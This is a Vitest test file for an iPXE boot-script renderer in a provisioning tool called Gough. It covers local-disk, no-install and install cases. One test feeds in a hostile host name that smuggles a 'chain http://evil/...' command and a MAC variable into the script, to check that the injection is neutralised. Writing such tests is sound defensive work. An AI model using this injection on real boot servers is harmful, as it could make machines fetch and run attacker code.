import { describe, expect, it } from 'vitest';
import { renderBootScript, renderHost } from '../../../src/render/index.js';
import { host, pxeSite } from './fixtures.js';

describe('renderBootScript', () => {
  it('local-disk boots the first disk on BIOS and hands over to the firmware otherwise', () => {
    expect(renderBootScript('local-disk', { host: 'edge-01' })).toBe(
      [
        '#!ipxe',
        'echo Gough: edge-01 is provisioned, booting from local disk',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: an iPXE variable
        'iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 || exit',
        'exit',
        '',
      ].join('\n'),
    );
  });

  it('no-business says why and exits', () => {
    expect(renderBootScript('no-business', { mac: '52:54:00:aa:bb:cc' })).toBe(
      '#!ipxe\necho Gough: no install is planned for 52:54:00:aa:bb:cc, handing over to the next boot device\nexit\n',
    );
  });

  it('install returns the host installer script', () => {
    const r = renderHost({ host: host('edge-01'), site: pxeSite(), template: undefined, revision: 'r' });
    if (!r.ok) throw new Error('render failed');
    expect(renderBootScript('install', { rendered: r.rendered })).toBe(r.rendered.ipxeScript);
    expect(() => renderBootScript('install', {})).toThrow(/no rendered host/);
  });

  it('a hostile name cannot inject iPXE commands or variables', () => {
    const s = renderBootScript('no-business', { host: ['x', 'chain http://evil/$', '{net0/mac}'].join('\n') });
    expect(s.split('\n')).toHaveLength(4);
    expect(s).not.toContain('$');
  });
});
